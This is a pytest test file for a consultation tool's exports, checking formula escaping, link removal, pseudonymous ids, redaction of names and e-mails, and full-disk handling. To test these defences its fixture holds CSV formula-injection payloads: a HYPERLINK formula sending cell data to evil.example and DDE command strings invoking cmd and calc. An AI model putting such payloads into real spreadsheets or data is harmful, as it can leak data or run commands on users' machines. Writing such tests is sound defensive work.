"""Exports that are safe to publish and safe to write: one escaping rule for every table (headers
and codebook too), no live links in the report, pseudonymous ids instead of e-mails or names,
personal data in organisation fields kept out, full disks and killed exports handled."""

from __future__ import annotations

import csv
import errno
import hashlib
import zipfile
from pathlib import Path

import pytest

from tests.conftest import SURVEY_HEADER, SURVEY_ROWS, write_survey

RISKY = ("=", "+", "-", "@")


def _hostile_project(project, tmp_path: Path):
    from consult_analyser.actions.coding import ImportCodebook
    from consult_analyser.ingest.importer import import_files

    header = [*SURVEY_HEADER, '=HYPERLINK("http://evil.example/?x="&A1,"click")']
    header[10] = "Q2. What should councils do (see https://evil.example/q2 or www.evil.example)?"
    rows = [[*row, "x"] for row in SURVEY_ROWS]
    rows[0][0] = "ann.example@mail.example"  # an e-mail address as the respondent id
    rows[1][4] = "Sarah O'Connor 07700 900123"  # a person typed into the organisation field
    rows[1][2] = "Organisation"
    rows[2][9] = "See https://evil.example/page and www.evil.example for details."
    import_files(project, [write_survey(tmp_path / "survey.csv", rows=rows, header=header)])
    op = ImportCodebook([{"path": f"{c}cmd|' /C calc'!A0", "description": "@SUM(1+1)", "colour": ""}
                         for c in RISKY])
    op.apply(project)
    return project


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_every_csv_field_and_header_is_escaped(project, tmp_path):
    from consult_analyser.actions.coding import write_codebook_csv
    from consult_analyser.export.csv_export import TABLES, export_csv

    _hostile_project(project, tmp_path)
    outputs = []
    for table in TABLES:
        export_csv(project, tmp_path / f"{table}.csv", table)
        outputs.append(tmp_path / f"{table}.csv")
    write_codebook_csv(project, tmp_path / "codebook-export.csv")
    outputs.append(tmp_path / "codebook-export.csv")
    risky = 0
    for path in outputs:
        for row in _csv_cells(path):
            for cell in row:
                assert not cell.startswith(RISKY), f"{path.name}: {cell!r}"
                risky += cell.startswith("'") and cell[1:2] in RISKY
    assert risky >= 9  # the header, the codebook's names and descriptions
    assert not list(tmp_path.glob("*.part"))


def test_report_has_no_live_links(project, tmp_path):
    from consult_analyser.export.report_docx import export_report

    _hostile_project(project, tmp_path)
    out = tmp_path / "report.docx"
    export_report(project, out, redact=False, quotes=10)
    with zipfile.ZipFile(out) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.endswith((".xml", ".rels")))
    assert b"<w:hyperlink" not in xml and b"relationships/hyperlink" not in xml
    assert b"https://evil" not in xml and b"www.evil" not in xml and b"https[:]//evil.example/q2" in xml


def test_annex_ids_and_organisations(project, tmp_path):
    from openpyxl import load_workbook

    from consult_analyser.export.annex_xlsx import export_annex
    from consult_analyser.pipeline.sectors.run import classify_project
    from consult_analyser.store import codebook, codings
    from consult_analyser.store.reporting import respondent_ids_by_external

    _hostile_project(project, tmp_path)
    classify_project(project)
    # code one answer of the respondent whose id is an e-mail so it shows in the matrix and excerpts
    code, _ = codebook.ensure_path(project, "Mixing")
    response = project.query("SELECT r.id FROM responses r JOIN respondents p ON p.id = r.respondent_id "
                             "WHERE p.external_id = ? AND r.text != ''", ("ann.example@mail.example",))[0]
    codings.add_coding(project, code.id, response[0])
    assert "ann.example@mail.example" in respondent_ids_by_external(project)
    result = export_annex(project, tmp_path / "annex.xlsx")
    workbook = load_workbook(result.path)
    everything = " ".join(str(c.value) for ws in workbook for row in ws.iter_rows() for c in row if c.value)
    assert "ann.example@mail.example" not in everything
    assert "O'Connor" not in everything and "07700" not in everything
    assert result.held_back  # flagged for review


def test_stale_part_files_are_cleaned_and_failures_leave_nothing(imported_project, tmp_path, monkeypatch):
    from consult_analyser.errors import WriteError
    from consult_analyser.export import annex_xlsx, csv_export
    from consult_analyser.export.annex_xlsx import export_annex

    target = tmp_path / "annex.xlsx"
    (tmp_path / "annex.xlsx.part").mkdir()  # what a killed export may leave, even a folder
    (tmp_path / "annex.xlsx.head.part").write_bytes(b"half")
    export_annex(imported_project, target)
    assert target.exists() and not list(tmp_path.glob("*.part"))
    before = hashlib.sha256(target.read_bytes()).hexdigest()

    def full_disk(*args, **kwargs):
        Path(args[1]).write_bytes(b"partial")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(annex_xlsx, "fill_sheets", full_disk)
    with pytest.raises(WriteError, match="disk is full"):
        export_annex(imported_project, target)
    assert hashlib.sha256(target.read_bytes()).hexdigest() == before  # the earlier annex is untouched
    assert not list(tmp_path.glob("*.part"))

    real_open = Path.open

    def failing_open(self, *args, **kwargs):
        if self.name.endswith(".part"):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", failing_open)
    with pytest.raises(WriteError, match="disk is full"):
        csv_export.export_csv(imported_project, tmp_path / "r.csv", "responses")
    assert not (tmp_path / "r.csv").exists() and not list(tmp_path.glob("*.part"))


def test_full_disk_during_import_leaves_the_project_as_it_was(imported_project, tmp_path):
    """SQLite's max_page_count makes the database full exactly as a full disk does (SQLITE_FULL)."""
    from consult_analyser.errors import WriteError
    from consult_analyser.ingest.importer import import_files
    from consult_analyser.store import reporting

    project = imported_project
    before = reporting.overview(project)
    pages = project.scalar("PRAGMA page_count")
    project.conn.execute(f"PRAGMA max_page_count = {pages + 2}")
    rows = [[f"R-{n:05d}", "01/05/2018 10:00", "Individual", "", "", "", "", "London", "Agree",
             "A long answer about funding and schools. " * 20, "More classes.", "Yes"] for n in range(3000)]
    with pytest.raises(WriteError, match="disk is full"):
        import_files(project, [write_survey(tmp_path / "big.csv", rows=rows)])
    project.conn.execute("PRAGMA max_page_count = 1073741823")
    assert reporting.overview(project) == before
    assert project.scalar("PRAGMA integrity_check") == "ok"


def test_full_disk_in_the_cli_is_a_message(tmp_path, monkeypatch, capsys):
    from consult_analyser.cli.main import main
    from consult_analyser.export import annex_xlsx

    project = tmp_path / "p.consult"
    assert main(["-q", "import", str(project), str(write_survey(tmp_path / "s.csv"))]) == 0

    def full_disk(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(annex_xlsx, "fill_sheets", full_disk)
    assert main(["-q", "export", str(project), str(tmp_path / "a.xlsx")]) == 1
    err = capsys.readouterr().err
    assert "disk is full" in err and "Traceback" not in err
    assert not list(tmp_path.glob("*.part"))


def test_a_letters_file_name_is_never_a_published_id(imported_project, tmp_path):
    """A letter's respondent id is its file's name, which may name its writer in a way no pattern
    finds ("Thorburn-Example_A_letter.docx"): the annex shows a pseudonymous id for it."""
    from openpyxl import load_workbook

    from consult_analyser.export.annex_xlsx import export_annex
    from consult_analyser.ingest.importer import import_files
    from consult_analyser.pipeline.letters.run import map_letters
    from consult_analyser.store import codebook, codings

    letter = tmp_path / "Thorburn-Example_A_letter.txt"
    letter.write_text("Question 1: the English classes at the library need evening sessions for people who work.",
                      encoding="utf-8")
    import_files(imported_project, [letter])
    map_letters(imported_project)
    code, _ = codebook.ensure_path(imported_project, "Classes")
    for (response_id,) in imported_project.query("SELECT id FROM responses WHERE origin = 'letter'"):
        codings.add_coding(imported_project, code.id, response_id)
    workbook = load_workbook(export_annex(imported_project, tmp_path / "annex.xlsx", respondent_sheets=True).path)
    everything = " ".join(str(c.value) for ws in workbook for row in ws.iter_rows() for c in row if c.value)
    assert "Thorburn" not in everything
    assert "respondent #" in " ".join(str(c.value) for c in workbook["Coded excerpts"]["A"] if c.value)


def test_organisations_abroad_are_listed_and_a_persons_own_name_is_not(project, tmp_path):
    """"Deutscher Städtetag" from someone who answered for an organisation and gave their own name
    apart is an organisation; a respondent who typed their own name into the organisation box is
    still held back."""
    from consult_analyser.export.safety import responding_organisations
    from consult_analyser.ingest.importer import import_files

    path = tmp_path / "de.csv"
    path.write_text("ID,Name,Organisation,Art,Stellungnahme\n"
                    "1,Anna Beispiel,Deutscher Städtetag,Organisation,Wir begrüßen den Entwurf.\n"
                    "2,Jane Smith,Jane Smith,Organisation,Ich lehne ihn ab.\n"
                    "3,Eva Probe,Kreisstadt Bergheim,Organisation,Die Kommunen brauchen Mittel.\n",
                    encoding="utf-8")
    import_files(project, [path])
    listed, held = responding_organisations(project, screen=True)
    assert {r.organisation for r in listed} >= {"Deutscher Städtetag", "Kreisstadt Bergheim"}
    assert "Jane Smith" in {r.organisation for r in held}


def test_a_survey_respondent_whose_email_joined_them_keeps_their_published_id(imported_project, tmp_path):
    """An evidence log's "INQ-0094" whose e-mail was matched to them by its sender's address: the id the
    table gave holds no personal data and stays as it is, so the annex can be read beside the log."""
    from consult_analyser.export.safety import respondent_labeller
    from consult_analyser.ingest.importer import import_files
    from consult_analyser.pipeline.pii import without_personal_data

    mail = tmp_path / "Ann_Example_letter.eml"
    mail.write_text("From: Ann Example <ann@example.com>\nTo: consult@example.gov.uk\nSubject: My response\n\n"
                    "The library should open on Sundays for families.\n", encoding="utf-8")
    import_files(imported_project, [mail])
    assert imported_project.scalar("SELECT COUNT(*) FROM documents d JOIN respondents p ON p.id = d.respondent_id"
                                   " WHERE p.external_id = 'R-001'") == 1  # joined the survey's R-001
    label = respondent_labeller(imported_project, without_personal_data)
    assert label("R-001") == "R-001"
